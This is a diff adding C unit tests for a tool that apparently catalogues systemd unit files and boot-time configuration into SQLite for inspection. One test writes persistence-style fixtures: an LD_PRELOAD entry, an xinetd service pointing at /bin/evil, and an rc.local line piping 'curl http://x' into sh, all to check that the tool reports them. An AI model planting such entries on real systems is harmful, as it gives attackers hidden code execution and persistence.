@@ -124,6 +124,18 @@ START_TEST(scripts_and_generators_have_states)
 }
 END_TEST
 
+START_TEST(files_of_lines_show_them)
+{
+    new_root();
+    unit("etc/environment.d/ld.conf", "# no\n\n  LD_PRELOAD=/x.so\nB=1\n");
+    unit("etc/xinetd.d/echo", "service echo\n{\n\tserver = /bin/evil\n}\n");
+    unit("etc/rc.local", "#!/bin/sh\ncurl http://x | sh\n");
+    expect("environment|LD_PRELOAD=/x.so\nB=1\nrc|curl http://x | sh\n"
+           "xinetd|service echo\n{\nserver = /bin/evil\n}",
+           "SELECT kind, settings FROM ROOT ORDER BY kind");
+}
+END_TEST
+
 /* Precedence ------------------------------------------------------------------ */
 
 START_TEST(a_file_of_higher_rank_shadows_those_below)
@@ -161,6 +173,21 @@ START_TEST(a_merged_usr_is_read_once)
     expect("/usr/lib/systemd/system/a.service", "SELECT path FROM ROOT WHERE name = 'a.service'");
     unit("var/lib/dpkg/info/systemd.list", "/.\n/lib\n/lib/systemd/system\n/usr\n");
     expect("/lib/systemd/system/a.service", "SELECT path FROM ROOT WHERE name = 'a.service'");
+}
+END_TEST
+
+START_TEST(directories_of_the_running_manager_come_first)
+{
+    static const char environment[] = "A=b\0SYSTEMD_UNIT_PATH=/opt/units:/srv/units:\0C=d";
+
+    new_root();
+    harness_write(dir, "proc/1/environ", environment, sizeof environment);
+    unit("opt/units/a.service", "[Service]\nExecStart=/opt/a\n");
+    unit("srv/units/a.service", "[Service]\nExecStart=/srv/a\n");
+    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
+    expect("0|/opt/units/a.service|NULL\n1|/srv/units/a.service|/opt/units/a.service\n"
+           "6|/etc/systemd/system/a.service|/opt/units/a.service",
+           "SELECT rank, path, shadowed_by FROM ROOT");
 }
 END_TEST
 
@@ -330,6 +357,45 @@ START_TEST(a_directory_without_permission_is_counted)
     harness_close(db);
     ck_assert(!is_root || seteuid(0) == 0);
     set_mode("etc/systemd/system/a.service.d", 0755);
+}
+END_TEST
+
+START_TEST(a_root_without_units_is_absent)
+{
+    new_root();
+    sqlite3 *db = harness_open();
+    harness_expect(db, "", "SELECT path FROM unit_files('%s')", dir);
+    harness_expect(
+        db, "absent|no unit directory could be read",
+        "SELECT status, detail FROM evidence_sources WHERE table_name = 'unit_files' AND "
+        "location = '%s'",
+        dir);
+    harness_close(db);
+}
+END_TEST
+
+START_TEST(an_ordinary_user_is_told_what_was_closed)
+{
+    bool is_root = geteuid() == 0;
+
+    new_root();
+    unit("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n");
+    unit("home/ann/.config/systemd/user/b.service", "");
+    set_mode("", 0755);
+    set_mode("..", 0711);
+    set_mode("home/ann", 0700);
+    set_mode("etc/systemd/system/a.service", 0);
+    ck_assert(!is_root || seteuid(65534) == 0);
+    sqlite3 *db = harness_open();
+    harness_expect(db, is_root ? "/etc/systemd/system/a.service|Permission denied|NULL" : "",
+                   "SELECT path, error, state FROM unit_files('%s') WHERE %d", dir, is_root);
+    harness_expect(db, is_root ? "1" : "0",
+                   "SELECT skipped FROM evidence_sources WHERE table_name = 'unit_files' AND "
+                   "location = '%s'",
+                   dir);
+    harness_close(db);
+    ck_assert(!is_root || seteuid(0) == 0);
+    set_mode("home/ann", 0755);
 }
 END_TEST
 
@@ -543,7 +609,11 @@ Suite *make_unit_files_suite(void)
     tcase_add_test(t, a_file_of_higher_rank_shadows_those_below);
     tcase_add_test(t, drop_ins_of_one_name_shadow_each_other);
     tcase_add_test(t, a_merged_usr_is_read_once);
+    tcase_add_test(t, directories_of_the_running_manager_come_first);
     tcase_add_test(t, settings_in_force_include_every_drop_in);
+    tcase_add_test(t, files_of_lines_show_them);
+    tcase_add_test(t, a_root_without_units_is_absent);
+    tcase_add_test(t, an_ordinary_user_is_told_what_was_closed);
     tcase_add_test(t, each_user_has_directories_of_their_own);
     tcase_add_test(t, links_that_leave_or_dangle_are_told);
     tcase_add_test(t, a_link_out_of_the_root_stays_inside);
